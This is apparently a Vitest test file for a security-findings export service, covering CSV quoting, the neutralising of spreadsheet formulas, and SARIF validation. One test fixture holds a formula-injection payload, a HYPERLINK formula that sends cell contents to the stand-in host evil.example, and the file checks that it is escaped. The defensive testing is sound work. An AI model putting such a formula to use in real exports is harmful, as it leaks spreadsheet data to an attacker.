import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../src/findings/export-csv.js';
import { setUpAdmin, type ApiClient } from '../helpers/api-client.js';
import { startTestService, type TestService } from '../helpers/service.js';
import { process as processStored, sarifLog, seedRepository, sha, storeScan } from './fixtures.js';
import { semgrepRun, trivyRun } from './logs.js';

/** Microsoft's SARIF multitool (the .NET binary its npm package ships for this platform). */
function multitool(): string {
  const require = createRequire(import.meta.url);
  const binary = require(`@microsoft/sarif-multitool-${process.platform}`) as string;
  if (existsSync(binary) && (statSync(binary).mode & 0o100) === 0) chmodSync(binary, 0o755);
  return binary;
}

/** Parses RFC 4180 CSV (quoted cells, doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const char = text[at]!;
    if (quoted) {
      if (char === '"' && text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[at + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      at += 1;
    } else cell += char;
  }
  return rows;
}

describe('CSV cells', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['=1+1', "'=1+1"],
    ['+SUM(A1)', "'+SUM(A1)"],
    ['-2', "'-2"],
    ['@cmd', "'@cmd"],
    ['=HYPERLINK("x","y")', '"\'=HYPERLINK(""x"",""y"")"'],
  ])('%j → %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });
});

describe('findings export', () => {
  let service: TestService;
  let admin: ApiClient;
  let accountId: string;
  let dir: string;

  beforeAll(async () => {
    service = await startTestService({}, { workerPollMs: 60_000 });
    const { client, session } = await setUpAdmin(service);
    admin = client;
    accountId = session.accounts[0]!.id;
    const db = service.database.db;
    const acme = await seedRepository(db, {
      accountId,
      kind: 'github',
      baseUrl: 'https://github.com',
      fullName: 'acme/api',
    });
    await processStored(
      db,
      acme,
      await storeScan(db, acme, {
        commitSha: sha('export-1'),
        log: sarifLog(semgrepRun(['sql-1', 'hash-1', 'formula-1']), trivyRun),
      }),
    );
    await processStored(
      db,
      acme,
      await storeScan(db, acme, {
        commitSha: sha('export-2'),
        log: sarifLog(semgrepRun(['sql-1', 'formula-1']), trivyRun),
      }),
    );
    const sql = await db
      .selectFrom('findings')
      .select('id')
      .where('rule_id', '=', 'sql-injection')
      .executeTakeFirstOrThrow();
    await admin.post(`/api/v1/accounts/${accountId}/findings/${sql.id}/triage`, {
      action: 'ignore',
      reason: 'false_positive',
      note: 'test fixture',
    });
    dir = mkdtempSync(path.join(tmpdir(), 'scm-connect-export-'));
  });
  afterAll(async () => {
    rmSync(dir, { recursive: true, force: true });
    await service.close();
  });

  it('CSV: a header row, RFC 4180 quoting, formulas neutralized, links', async () => {
    const answer = await admin.get(`/api/v1/accounts/${accountId}/findings/export?format=csv`);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(answer.headers.get('content-disposition')).toMatch(/attachment; filename="findings-.*\.csv"/);
    const rows = parseCsv(answer.text);
    expect(rows[0]).toEqual([
      'Severity',
      'State',
      'Rule',
      'Message',
      'Repository',
      'Branch',
      'Path',
      'Start line',
      'End line',
      'Commit',
      'Link',
      'Default branch link',
      'First seen',
      'Last seen',
      'Fixed at',
      'Ignored reason',
    ]);
    expect(rows).toHaveLength(5);
    const byRule = Object.fromEntries(rows.slice(1).map((row) => [row[2], row]));
    expect(byRule['formula']![3]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(byRule['sql-injection']![3]).toBe('Finding sql-1, with "quotes", commas and\na line break');
    expect(byRule['sql-injection']![10]).toBe(
      `https://github.com/acme/api/blob/${sha('export-2')}/src/sql-1.py#L10-L12`,
    );
    expect(byRule['sql-injection']![11]).toBe('https://github.com/acme/api/blob/main/src/sql-1.py');
    expect(byRule['sql-injection']![15]).toBe('false_positive');
    expect(byRule['weak-hash']!.slice(0, 2)).toEqual(['medium', 'fixed']);
    expect(byRule['weak-hash']![14]).not.toBe('');
    const filtered = parseCsv(
      (await admin.get(`/api/v1/accounts/${accountId}/findings/export?format=csv&state=fixed`)).text,
    );
    expect(filtered).toHaveLength(2);
  });

  it('SARIF: one run per tool and category, suppressions, baselineState; valid for Microsoft’s SARIF multitool', async () => {
    const answer = await admin.get(`/api/v1/accounts/${accountId}/findings/export?format=sarif`);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toMatch(/^application\/sarif\+json/);
    const log = JSON.parse(answer.text) as {
      version: string;
      runs: {
        tool: { driver: { name: string; rules: { id: string }[] } };
        automationDetails?: { id: string };
        results: {
          ruleId: string;
          baselineState: string;
          suppressions?: { status: string }[];
          fingerprints: Record<string, string>;
        }[];
      }[];
    };
    expect(log.version).toBe('2.1.0');
    expect(
      log.runs.map((run) => [run.tool.driver.name, run.automationDetails?.id ?? null, run.results.length]),
    ).toEqual([
      ['Semgrep', 'sast/', 3],
      ['Trivy', null, 1],
    ]);
    const results = Object.fromEntries(log.runs[0]!.results.map((result) => [result.ruleId, result]));
    expect(results['sql-injection']).toMatchObject({
      baselineState: 'unchanged',
      suppressions: [{ status: 'accepted' }],
    });
    expect(results['sql-injection']!.fingerprints['matchBasedId/v1']).toBe('sql-1');
    expect(results['weak-hash']!.baselineState).toBe('absent');
    expect(log.runs[0]!.tool.driver.rules.map((rule) => rule.id).sort()).toEqual([
      'formula',
      'sql-injection',
      'weak-hash',
    ]);

    const file = path.join(dir, 'export.sarif');
    const output = path.join(dir, 'validation.sarif');
    writeFileSync(file, answer.text);
    const run = spawnSync(multitool(), ['validate', file, '--output', output, '--log', 'ForceOverwrite'], {
      encoding: 'utf8',
      timeout: 120_000,
      // The .NET binary then needs no ICU library on the machine.
      env: { ...process.env, DOTNET_SYSTEM_GLOBALIZATION_INVARIANT: '1' },
    });
    expect(run.error).toBeUndefined();
    expect(run.status, `${run.stdout}\n${run.stderr}`).toBe(0);
    const validation = JSON.parse(readFileSync(output, 'utf8')) as {
      runs: { results?: { level?: string; message: { text?: string } }[] }[];
    };
    const errors = (validation.runs[0]?.results ?? []).filter((result) => result.level === 'error');
    expect(errors, JSON.stringify(errors, null, 2)).toEqual([]);
  }, 150_000);
});
